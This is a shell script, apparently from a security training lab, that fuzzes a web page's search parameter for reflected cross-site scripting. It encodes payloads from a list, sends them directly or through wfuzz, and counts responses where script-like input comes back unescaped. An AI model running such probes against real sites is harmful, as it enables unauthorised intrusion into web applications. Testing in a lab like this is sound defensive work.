# Search for each script of the list. One that comes back as it is would run.
. /usr/local/lib/lab/attack.sh
phase probe
while IFS= read -r script; do
	printf '%s' "$script" | encoded
	echo
done <tries >encoded

by_hand() {
	while IFS= read -r script <&3 && read -r encoded <&4; do
		sleep "$PAUSE"
		fetch "$page?search=$encoded" >answer
		if [ -s answer ]; then answered=$((answered + 1)); fi
		if grep -qF "Posts with: $script" answer; then hits=$((hits + 1)); fi
	done 3<tries 4<encoded
}

answered=0
hits=0
case $IMPLEMENTATION in
wfuzz)
	# what begins as an element and calls the function; it asks for the rest by itself
	wfuzz -o raw -z file,/root/encoded -t 1 -s "$PAUSE" ${browser:+-H "User-Agent: $browser"} \
		--ss 'Posts with: <[a-z][^&]*alert' "$page?search=FUZZ" </dev/null >said 2>&1 || true
	tail -n 8 said
	hits=$(grep -c 'C=200' said || true)
	answered=$(sed -n 's/^Processed Requests: //p' said)
	;;
*) by_hand ;;
esac
outcome answered="$answered"
outcome hits="$hits"
